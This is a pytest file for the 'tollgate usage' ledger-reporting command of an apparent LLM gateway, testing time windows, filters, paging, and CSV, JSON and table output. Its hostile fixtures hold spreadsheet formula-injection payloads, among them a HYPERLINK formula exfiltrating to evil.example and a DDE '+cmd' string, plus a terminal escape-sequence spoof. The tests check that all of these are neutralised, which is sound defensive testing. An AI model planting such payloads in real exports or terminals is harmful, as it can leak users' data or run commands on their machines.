"""`tollgate usage`, the real command in a subprocess, over a SQLite ledger filled through the repository.

The ledger holds calls from the last few days (inside the default 30-day window), one 40 days old, and
calls in March 2020, so that the default range, relative spans and explicit dates each select a known part.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import subprocess
import sys
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from gateway.cli.common import display_width
from gateway.storage.engine import create_engine
from gateway.storage.records import UsageRecord
from gateway.storage.usage import UsageRepository
from tests.support.gateway import GatewayHarness
from tests.support.ledger_rows import write_as_before_the_bounds

MARCH = datetime(2020, 3, 1, tzinfo=UTC)
TINY = "0.0000000001"  # the smallest cost the ledger holds


def usage(
    created_at: datetime, tenant: str | None, model: str | None, cost: str | None, **fields: Any
) -> UsageRecord:
    values: dict[str, Any] = {
        "created_at": created_at.timestamp(),
        "request_id": f"req-{created_at.timestamp()}-{tenant}",
        "tenant_id": tenant,
        "team": None,
        "user": None,
        "key_id": None if tenant is None else f"key_{tenant}",
        "provider": "openai",
        "upstream": "https://api.openai.com/v1",
        "model": model,
        "endpoint": "chat.completions",
        "status": 200,
        "streamed": False,
        "input_tokens": 1000,
        "output_tokens": 100,
        "cached_input_tokens": 0,
        "cache_write_tokens": 0,
        "reasoning_tokens": 0,
        "cost_usd": None if cost is None else Decimal(cost),
        "duration_ms": 250.0,
        "ttfb_ms": 80.0,
        "estimated": False,
    }
    values.update(fields)
    return UsageRecord(**values)


def ledger(now: datetime) -> list[UsageRecord]:
    return [
        usage(now - timedelta(hours=1), "acme", "gpt-4o", "0.0035", team="ml"),
        usage(now - timedelta(days=2), "acme", "gpt-4o-mini", "0.00021", team="ml"),
        usage(now - timedelta(days=3), "acme", "llama-3.3-70b", None, provider="local"),
        usage(now - timedelta(days=5), "globex", "gpt-4o", "0.0035", cached_input_tokens=400, web_searches=2),
        usage(now - timedelta(days=40), "acme", "gpt-4o", "9"),  # outside the default 30 days
        usage(MARCH + timedelta(hours=23, minutes=59), "acme", "gpt-4o", "0.1"),
        usage(MARCH + timedelta(days=1), "acme", "gpt-4o", "0.2"),
        usage(MARCH + timedelta(days=1, hours=5), "globex", "claude-sonnet-4", TINY, provider="anthropic",
              web_searches=1),
        usage(MARCH + timedelta(days=2), None, None, None, status=401, input_tokens=0, output_tokens=0),
    ]  # fmt: skip


@dataclass(frozen=True)
class Ledger:
    gateway: GatewayHarness

    def usage(self, *args: str, check: bool = True) -> Any:
        return self.gateway.cli("usage", *args, check=check)

    def json(self, *args: str) -> dict[str, Any]:
        result: dict[str, Any] = json.loads(self.usage(*args, "--format", "json").stdout)
        return result


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Ledger:
    gateway = GatewayHarness(Path(tmp_path_factory.mktemp("usage-cli")), providers={})
    gateway.cli("db", "upgrade")

    async def fill() -> None:
        engine = create_engine(f"sqlite:///{gateway.directory / 'tollgate.db'}")
        try:
            await UsageRepository(engine).insert_many(ledger(datetime.now(UTC)))
        finally:
            await engine.dispose()

    asyncio.run(fill())
    return Ledger(gateway)


def test_by_default_it_prints_cost_per_tenant_over_the_last_30_days_as_a_table(filled: Ledger) -> None:
    lines = filled.usage().stdout.splitlines()

    assert lines[0].split() == [
        "TENANT", "REQUESTS", "INPUT", "OUTPUT", "CACHED", "CACHE", "WRITE", "REASONING", "SEARCHES", "COST",
        "USD", "UNPRICED", "ESTIMATED",
    ]  # fmt: skip
    assert [line.split() for line in lines[1:]] == [
        ["acme", "3", "3000", "300", "0", "0", "0", "0", "0.003710", "1", "0"],
        ["globex", "1", "1000", "100", "400", "0", "0", "2", "0.003500", "0", "0"],
    ]


def test_json_has_counts_as_numbers_and_costs_as_exact_decimal_strings(filled: Ledger) -> None:
    report = filled.json("--by", "model", "--since", "2020-03-01", "--until", "2020-03-04")

    assert report["group_by"] == ["model"]
    assert report["since"] == "2020-03-01T00:00:00+00:00"
    assert report["until"] == "2020-03-04T00:00:00+00:00"
    assert report["next_offset"] is None
    assert report["rows"] == [
        {"model": "claude-sonnet-4", "requests": 1, "input_tokens": 1000, "output_tokens": 100,
         "cached_input_tokens": 0, "cache_write_tokens": 0, "reasoning_tokens": 0, "web_searches": 1,
         "cost_usd": "0.0000000001", "unpriced_requests": 0, "estimated_requests": 0},
        {"model": "gpt-4o", "requests": 2, "input_tokens": 2000, "output_tokens": 200,
         "cached_input_tokens": 0, "cache_write_tokens": 0, "reasoning_tokens": 0, "web_searches": 0,
         "cost_usd": "0.3", "unpriced_requests": 0, "estimated_requests": 0},
        {"model": None, "requests": 1, "input_tokens": 0, "output_tokens": 0,
         "cached_input_tokens": 0, "cache_write_tokens": 0, "reasoning_tokens": 0, "web_searches": 0,
         "cost_usd": "0", "unpriced_requests": 1, "estimated_requests": 0},
    ]  # fmt: skip


def test_csv_has_a_header_row_then_one_row_per_tenant_and_utc_day(filled: Ledger) -> None:
    output = filled.usage(
        "--by", "tenant,day", "--since", "2020-03-01", "--until", "2020-04-01", "--format", "csv"
    )

    rows = list(csv.reader(io.StringIO(output.stdout)))
    assert rows[0] == [
        "tenant", "day", "requests", "input_tokens", "output_tokens", "cached_input_tokens",
        "cache_write_tokens", "reasoning_tokens", "web_searches", "cost_usd", "unpriced_requests",
        "estimated_requests",
    ]  # fmt: skip
    assert [(row[0], row[1], row[2], row[8], row[9]) for row in rows[1:]] == [
        ("acme", "2020-03-01", "1", "0", "0.1"),
        ("acme", "2020-03-02", "1", "0", "0.2"),
        ("globex", "2020-03-02", "1", "1", "0.0000000001"),
        ("", "2020-03-03", "1", "0", "0"),
    ]


def test_a_relative_since_counts_back_from_now(filled: Ledger) -> None:
    assert [row["requests"] for row in filled.json("--since", "24h")["rows"]] == [1]
    assert [row["tenant"] for row in filled.json("--since", "4d")["rows"]] == ["acme"]
    assert [row["requests"] for row in filled.json("--since", "8w", "--until", "30d")["rows"]] == [1]


def test_until_is_exclusive_so_a_date_ends_before_its_own_midnight(filled: Ledger) -> None:
    report = filled.json("--by", "day", "--since", "2020-03-01", "--until", "2020-03-02")

    assert [(row["day"], row["requests"]) for row in report["rows"]] == [("2020-03-01", 1)]


def test_an_instant_with_a_zone_is_converted_to_utc(filled: Ledger) -> None:
    report = filled.json(
        "--by", "day", "--since", "2020-03-02T00:30:00+01:00", "--until", "2020-03-02T06:00:00Z"
    )

    assert report["since"] == "2020-03-01T23:30:00+00:00"
    assert [(row["day"], row["requests"]) for row in report["rows"]] == [("2020-03-01", 1), ("2020-03-02", 2)]


def test_filters_keep_only_the_matching_calls(filled: Ledger) -> None:
    def requests(*filters: str) -> int:
        rows = filled.json("--by", "tenant", "--since", "90d", *filters)["rows"]
        return sum(row["requests"] for row in rows)

    assert requests("--tenant", "acme") == 4
    assert requests("--tenant", "acme", "--model", "gpt-4o") == 2
    assert requests("--team", "ml") == 2
    assert requests("--provider", "local") == 1
    assert requests("--key", "key_globex") == 1
    assert requests("--user", "nobody") == 0


def test_a_tenant_with_no_usage_and_no_record_is_refused_as_a_typo(filled: Ledger) -> None:
    result = filled.usage("--tenant", "acme-typo", "--since", "90d", check=False)

    assert result.returncode == 1
    assert "tenant 'acme-typo' does not exist" in result.stderr
    assert result.stdout == ""


def test_a_tenant_that_exists_but_has_no_usage_gets_an_empty_report(filled: Ledger) -> None:
    filled.gateway.cli("tenant", "create", "quiet-co")

    report = filled.json("--tenant", "quiet-co", "--since", "90d")

    assert report["rows"] == []


def test_unpriced_calls_are_counted_and_left_out_of_the_cost(filled: Ledger) -> None:
    [row] = filled.json("--by", "provider", "--provider", "local")["rows"]

    assert (row["requests"], row["cost_usd"], row["unpriced_requests"]) == (1, "0", 1)


def test_a_limit_shows_the_first_groups_and_stderr_says_how_to_see_the_next(filled: Ledger) -> None:
    first = filled.usage("--by", "model", "--since", "90d", "--limit", "2", "--format", "csv")
    second = filled.usage(
        "--by", "model", "--since", "90d", "--limit", "2", "--offset", "2", "--format", "csv"
    )

    assert [row[0] for row in csv.reader(io.StringIO(first.stdout))][1:] == ["gpt-4o", "gpt-4o-mini"]
    assert "--offset 2" in first.stderr
    assert [row[0] for row in csv.reader(io.StringIO(second.stdout))][1:] == ["llama-3.3-70b"]
    assert second.stderr == ""


def test_json_states_the_absolute_window_it_used_until_being_the_moment_of_the_report(filled: Ledger) -> None:
    before = datetime.now(UTC)
    report = filled.json("--since", "7d")
    after = datetime.now(UTC)

    since, until = datetime.fromisoformat(report["since"]), datetime.fromisoformat(report["until"])
    assert before <= until <= after
    assert until - since == timedelta(days=7)


def test_the_note_of_a_next_page_gives_the_window_to_page_through(filled: Ledger) -> None:
    first = filled.usage("--by", "model", "--since", "90d", "--limit", "2", "--format", "csv")

    note = re.fullmatch(r"tollgate: more groups follow; (.*) shows the next ones\n", first.stderr)
    assert note is not None
    arguments = note.group(1).split()
    assert arguments[0::2] == ["--since", "--until", "--snapshot", "--offset"] and arguments[7] == "2"
    since, until = datetime.fromisoformat(arguments[1]), datetime.fromisoformat(arguments[3])
    assert until - since == timedelta(days=90)
    second = filled.usage("--by", "model", *arguments, "--limit", "2", "--format", "csv")
    assert [row[0] for row in csv.reader(io.StringIO(second.stdout))][1:] == ["llama-3.3-70b"]


def test_the_table_shows_a_dash_where_a_group_has_no_value(filled: Ledger) -> None:
    lines = filled.usage("--by", "team", "--since", "90d").stdout.splitlines()

    assert [line.split()[:2] for line in lines[1:]] == [["ml", "2"], ["-", "3"]]


MAY = datetime(2020, 5, 1, tzinfo=UTC)
IN_MAY = ("--since", "2020-05-01", "--until", "2020-05-02")
# Texts from request bodies and keys, which reach the report as they were written.
HOSTILE_MODELS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tx",
    "\rx",
    "a=b",
]


JUNE = datetime(2020, 6, 1, tzinfo=UTC)
TABLE_MODELS = ["gpt-4o", "模型-日本語", "gpt-4o\x1b[2K\r\x1b[1Aevil\nglobex  999", "-", None]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Ledger:
    gateway = GatewayHarness(Path(tmp_path_factory.mktemp("usage-cli-hostile")), providers={})
    gateway.cli("db", "upgrade")

    async def fill() -> None:
        engine = create_engine(gateway.effective_database_url)
        try:
            records = [
                usage(MAY + timedelta(minutes=n), "acme", model, "-0.5" if n == 0 else "1", user="=cmd")
                for n, model in enumerate(HOSTILE_MODELS)
            ]
            records += [
                usage(JUNE + timedelta(minutes=n), "acme", model, "1") for n, model in enumerate(TABLE_MODELS)
            ]
            await UsageRepository(engine).insert_many(records)
        finally:
            await engine.dispose()

    asyncio.run(fill())
    return Ledger(gateway)


def test_csv_texts_that_could_start_a_formula_get_a_leading_quote_and_numbers_stay_as_they_are(
    hostile: Ledger,
) -> None:
    arguments = ("usage", "--by", "model,user", *IN_MAY, "--format", "csv")
    output = stdout_as_written(hostile.gateway, *arguments)  # a carriage return kept as it is

    rows = list(csv.reader(io.StringIO(output, newline="")))
    assert {(row[0], row[1], row[9]) for row in rows[1:]} == {
        ("'+cmd|' /C calc'!A0", "'=cmd", "1"),
        ("'-2+3", "'=cmd", "1"),
        ('\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=cmd", "-0.5"),
        ("'@SUM(1+1)", "'=cmd", "1"),
        ("'\tx", "'=cmd", "1"),
        ("'\rx", "'=cmd", "1"),
        ("a=b", "'=cmd", "1"),
    }


def test_the_table_escapes_control_characters_aligns_wide_ones_and_tells_no_model_from_a_dash(
    hostile: Ledger,
) -> None:
    output = stdout_as_written(
        hostile.gateway, "usage", "--by", "model", "--since", "2020-06-01", "--until", "2020-06-02"
    )

    lines = output.split("\n")[:-1]
    first_cells = [
        "MODEL",
        '"-"',  # a model named "-"
        "gpt-4o",
        '"gpt-4o\\x1b[2K\\r\\x1b[1Aevil\\nglobex  999"',
        "模型-日本語",
        "-",  # no model
    ]
    assert "\x1b" not in output and "\r" not in output and len(lines) == len(first_cells)
    assert all(line.startswith(cell + " ") for line, cell in zip(lines, first_cells, strict=True))
    second_column_starts = {
        display_width(cell) + len(line[len(cell) :]) - len(line[len(cell) :].lstrip(" "))
        for line, cell in zip(lines, first_cells, strict=True)
    }
    assert len(second_column_starts) == 1  # on a terminal, REQUESTS and its counts line up


def stdout_as_written(gateway: GatewayHarness, *arguments: str) -> str:
    """What `tollgate ARGUMENTS` writes, without the newline translation of `GatewayHarness.cli`."""
    command = [sys.executable, "-m", "gateway", "--config", str(gateway.config_path), *arguments]
    return subprocess.run(command, capture_output=True, check=True, timeout=60).stdout.decode()


def test_help_says_how_csv_keeps_spreadsheets_from_running_texts(filled: Ledger) -> None:
    text = " ".join(filled.usage("--help").stdout.split())

    assert "starting with =, +, -, @, a tab or a carriage return is written after a '" in text


def test_a_sum_past_64_bits_is_reported_as_such_not_as_an_unreachable_database(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    gateway = GatewayHarness(Path(tmp_path_factory.mktemp("usage-cli-clamped")), providers={})
    gateway.cli("db", "upgrade")
    clamped = [  # as the ledger stored what a broken upstream reported, before it bounded counts
        usage(MARCH, "acme", "gpt-4o", None, input_tokens=2**63 - 1, request_id=f"req-old-{n}")
        for n in range(2)
    ]
    asyncio.run(_write_as_before_the_bounds(gateway, clamped))

    result = gateway.cli("usage", "--since", "2020-03-01", "--until", "2020-03-02", check=False)

    assert result.returncode == 1
    assert result.stderr.startswith("tollgate: a sum of the records selected is past the 64 bits")
    assert "reachable" not in result.stderr and "Traceback" not in result.stderr


async def _write_as_before_the_bounds(gateway: GatewayHarness, records: list[UsageRecord]) -> None:
    engine = create_engine(gateway.effective_database_url)
    try:
        await write_as_before_the_bounds(engine, records)
    finally:
        await engine.dispose()


@pytest.mark.parametrize(
    ("arguments", "complaint"),
    [
        (
            ["--by", "tenant,colour"],
            "each dimension must be one of tenant, team, user, key, model, provider, service_tier, day",
        ),
        (["--by", "day,day"], "names a dimension twice"),
        (["--since", "last tuesday"], "is not a span (7d, 24h, 30m, 2w), a date or an ISO 8601 instant"),
        (["--limit", "0"], "must be 1..1000000"),
        (["--limit", "9223372036854775807"], "must be 1..1000000"),
        (["--limit", "abc"], "'abc' is not a whole number"),
        (["--offset", "9" * 30], "must be 0..1000000000000"),
        (["--format", "xml"], "invalid choice"),
        (["--tenant", "acme", "--tenant", "globex"], "argument --tenant: given more than once"),
        (["--by", "model", "--by", "tenant"], "argument --by: given more than once"),
        (["--since", "7d", "--since", "7d"], "argument --since: given more than once"),
        (["--limit", "5", "--limit", "5"], "argument --limit: given more than once"),
    ],
)
def test_bad_arguments_are_usage_errors(filled: Ledger, arguments: list[str], complaint: str) -> None:
    result = filled.usage(*arguments, check=False)

    assert result.returncode == 2
    assert complaint in result.stderr
    assert result.stdout == ""


def test_a_range_that_ends_before_it_starts_is_refused(filled: Ledger) -> None:
    result = filled.usage("--since", "2020-03-02", "--until", "2020-03-01", check=False)

    assert result.returncode == 1
    assert result.stderr == "tollgate: --since must be before --until\n"


def test_help_explains_dimensions_times_formats_and_gives_examples(filled: Ledger) -> None:
    text = filled.usage("--help").stdout

    for expected in ("dimensions (--by)", "30m, 24h, 7d, 2w", "cost_usd is a string", "examples:"):
        assert expected in text
    assert "tollgate usage --by model,day --tenant acme --since 7d" in text


@pytest.mark.parametrize(
    ("arguments", "complaint"),
    [
        (["serve", "--port", "70000"], "must be 0..65535"),
        (["serve", "--workers", "0"], "must be 1..64"),
        (
            ["key", "create", "--tenant", "acme", "--expires-in", "9999999d"],
            "ends past the calendar's last year",
        ),
    ],
)
def test_out_of_range_numbers_are_refused_with_a_line_not_a_traceback(
    filled: Ledger, arguments: list[str], complaint: str
) -> None:
    result = filled.gateway.cli(*arguments, check=False)

    assert result.returncode in (1, 2)
    assert complaint in result.stderr and "Traceback" not in result.stderr
